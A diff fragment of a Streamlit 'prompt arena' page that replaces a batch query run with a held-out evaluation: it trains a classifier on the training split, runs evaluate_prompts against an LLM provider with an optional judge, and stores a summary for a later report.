+    elif st.button(f"Evaluate {len(held.texts)} held-out queries", type="primary", icon=":material/playlist_play:",
+                   key="arena_eval_go"):
+        bar = st.progress(0.0, text=f"0 / {calls} answers")
 
         def progress(done: int, total: int, row: dict) -> None:
-            bar.progress(done / total, text=f"{done} / {total} queries · last: {str(row.get('query'))[:60]}")
+            bar.progress(done / total, text=f"{done} / {total} answers · row {row.get('row')} · {row.get('arm')}")
 
         try:
-            df = run_batch(picked, clf, provider, progress=progress, k=k, max_tokens=max_tokens,
-                           temperature=temperature, cache=cache, prices=prices, **prompt_options)
-            st.session_state["arena_batch"] = df
-            record_latencies([(ms, bool(c)) for arm in ARMS
-                              for ms, c in zip(df[f"{arm}_latency_ms"].fillna(0), df[f"{arm}_cached"].fillna(False))])
+            with st.spinner("Training the classifier on the training part..."):
+                eval_clf = train_classifier(fingerprint(held.train_texts, held.train_labels), held.train_texts,
+                                            held.train_labels)
+            eval_pool = (example_pool_for(fingerprint(held.train_texts, held.train_labels), answer_col,
+                                          held.train_texts, held.train_labels, eval_clf, answers_by_text)
+                         if is_base else None)
+            run = evaluate_prompts(held.texts, held.labels, eval_clf, provider, repeats=repeats, temperature=eval_temp,
+                                   max_tokens=max_tokens, k=k, cache=cache, prices=prices, examples=eval_pool,
+                                   judge=judge, source=held.source, progress=progress, **analysis_options,
+                                   **prompt_options)
+            summary = summarise(run, prices=prices)
+            st.session_state["arena_eval"] = {"run": run, "summary": summary}
+            st.session_state[CONTEXT_SUMMARY_KEY] = summary  # read by the Decide report
+            record_latencies([(ms, False) for ms in pd.to_numeric(run.rows["latency_ms"], errors="coerce").dropna()])
         except Exception as exc:  # noqa: BLE001 - show_error words CrossroadsError and unexpected errors alike
-            show_error(exc, what="The batch")
-    df = st.session_state.get("arena_batch")
-    if isinstance(df, pd.DataFrame):
-        if df.attrs.get("stopped_early"):
-            st.error(f"The batch stopped early: {df.attrs['stopped_early']}", icon=":material/error:")
-        summ = batch_summary(df)
-        st.markdown(f"**{summ['n_queries']} queries**, {summ['n_errors']} error(s).")
-        tot = pd.DataFrame([{"prompt": arm, "input tokens": summ[arm]["input_tokens"],
-                             "output tokens": summ[arm]["output_tokens"],
-                             "mean latency (ms)": round(summ[arm]["mean_latency_ms"] or 0, 1),
-                             "cost (USD)": fmt_cost(summ[arm]["cost_usd"])} for arm in ARMS])
-        st.dataframe(tot, hide_index=True, width="stretch")
-        shown = ["query", "category", "confidence", "sentiment", "urgency",
-                 "raw_response", "raw_input_tokens", "raw_output_tokens", "raw_latency_ms", "raw_cost_usd",
-                 "contextualised_response", "contextualised_input_tokens", "contextualised_output_tokens",
-                 "contextualised_latency_ms", "contextualised_cost_usd", "error"]
-        st.dataframe(df[shown], hide_index=True, width="stretch")
-        download_buttons(df, "prompt_arena_batch", key="arena_batch_dl",
-                         json_obj={"provider": prov_name, "model_id": provider.model_id,
-                                   "summary": summ,
-                                   "rows": json.loads(df.to_json(orient="records", force_ascii=False))})
+            show_error(exc, what="The evaluation")
 else:
-    st.info("No query text to run: choose a table with a text column.", icon=":material/info:")
+    st.info("Choose where the held-out rows come from: a split of the training table, or a second file with the same "
+            "kind of labels (for banking77: test.csv).", icon=":material/info:")
+
+state = st.session_state.get("arena_eval")
+if state:
+    run, summ = state["run"], state["summary"]
+    render_evaluation(run, summ, prices)
